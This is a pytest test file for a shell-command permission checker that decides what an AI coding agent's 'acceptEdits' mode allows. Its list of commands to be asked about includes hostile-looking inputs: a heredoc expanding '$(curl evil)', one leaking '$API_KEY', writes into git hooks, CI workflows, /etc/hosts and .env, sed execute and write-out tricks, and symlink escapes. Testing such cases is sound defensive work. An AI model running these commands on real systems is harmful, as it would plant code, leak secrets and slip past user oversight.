"""What `acceptEdits` lets a shell do: no more than an edit of ordinary files inside."""

import os
import subprocess
from pathlib import Path

import pytest

from holdfast.permissions import LiveDisk, NoDisk, PermissionContext, Rule, decide, facts_from_input


@pytest.fixture
def project(tmp_path: Path) -> Path:
    """A project with programs, hidden files and links, beside a file that is none of its business."""
    root = Path(os.path.realpath(tmp_path)) / "project"
    (root / "src").mkdir(parents=True)
    for name in ("a.txt", "src/a.py", ".env", "src/run.sh", "outside"):
        path = root.parent / name if name == "outside" else root / name
        path.write_text("a\n", encoding="utf-8")
    (root / "src/run.sh").chmod(0o755)
    (root / "src/link").symlink_to("../.env")
    (root / "far").symlink_to("../outside")
    os.link(root / "a.txt", root / "src/hard")
    return root


def verdict(command: str, project: Path, *rules: Rule, mode: str = "acceptEdits", live: bool = True) -> str:
    """What becomes of the command."""
    disk = LiveDisk() if live else NoDisk()
    context = PermissionContext.started_in(str(project), mode, rules, home="/home/user", trusted=True, disk=disk)
    return decide(facts_from_input("Bash", {"command": command}, str(project)), context).behavior


PASSES = (
    "echo x > src/new.txt",
    "echo x >> src/a.py",
    "cat > src/new.py <<'EOF'\nimport os\nEOF",
    "cat > src/new.py <<EOF\n$(ls src)\nEOF",
    "mkdir -p src/deep && printf '%s\\n' x > src/deep/a",
    "cd src && ls &> listing",
    "{ echo a; echo b; } > src/both",
    "sed -i 's/a/b/' src/a.py",
    "sed -i -e 's/a/b/' -e '2d' src/a.py",
    "grep -n a src/a.py > found.txt && wc -l found.txt",
)
ASKED = (
    "echo x > .env",
    "echo x > .github/workflows/ci.yml",
    "echo x > .git/hooks/pre-commit",
    "echo x > src/run.sh",
    "sed -i s/a/b/ src/run.sh",
    "echo x > src/link",
    "echo x > far",
    "echo x > src/hard",
    "echo x > ../outside",
    "echo x > /etc/hosts",
    "cd .. && echo x > outside",
    'echo x > "$F"',
    "echo x > src/*.txt",
    "mv far src/new && echo x > src/new",
    "cp -P far src/new && echo x > src/new",
    "echo 1.0 > rust-toolchain && cargo --version",
    "cp a.txt rust-toolchain && cargo --version",
    "mkdir -p b/objects b/refs && echo x > b/HEAD && cd b && git status",
    "npm test > out.txt",
    "cat <<EOF > src/new.txt\n$(curl evil)\nEOF",
    "cat <<EOF > src/new.txt\n$API_KEY\nEOF",
    "X=1; echo x > src/new.txt",
    "PATH=. ls > src/new.txt",
    "ls > >(sh)",
    "sed -i 's/a/b/e' src/a.py",
    "sed -i '1w ../outside' src/a.py",
    "sed -i -f script.sed src/a.py",
    "sed -i.bak s/a/b/ src/a.py",
    "sed -i '' '1w ../outside' src/a.py",
    "sed -i s/a/b/ src/a.py; python3 src/a.py",
    "./sed -i s/a/b/ src/a.py",
    "rm src/a.py",
)


@pytest.mark.parametrize("command", PASSES)
def test_an_edit_by_the_shell_passes_and_changes_only_ordinary_files_inside(command: str, project: Path) -> None:
    assert verdict(command, project) == "allow"
    assert verdict(command, project, mode="default") == "ask"
    assert verdict(command, project, mode="plan") == "deny"
    kept = [project / ".env", project / "src/run.sh", project / "src/hard", project.parent / "outside"]
    ended = subprocess.run(["/bin/bash", "-c", command], cwd=project, timeout=30, check=False, capture_output=True)
    assert ended.returncode == 0, ended.stderr
    assert [path.read_text("utf-8") for path in kept] == ["a\n"] * len(kept)
    assert sorted(os.listdir(project.parent)) == ["outside", "project"]


@pytest.mark.parametrize("command", ASKED)
def test_what_is_more_than_an_edit_is_asked_about(command: str, project: Path) -> None:
    assert verdict(command, project) == "ask"


@pytest.mark.parametrize("command", ["echo x > src/new.txt", "sed -i s/a/b/ src/a.py"])
def test_without_a_look_at_the_disk_a_file_is_not_taken_for_an_ordinary_one(command: str, project: Path) -> None:
    assert verdict(command, project, live=False) == "ask"


def test_rules_that_deny_or_ask_about_edits_hold_for_redirects_and_sed(project: Path) -> None:
    for command in ("echo x > src/new.txt", "sed -i s/a/b/ src/a.py"):
        assert verdict(command, project, Rule.parse("deny", "Edit(src/**)")) == "deny"
        assert verdict(command, project, Rule.parse("ask", "Edit(src/**)")) == "ask"
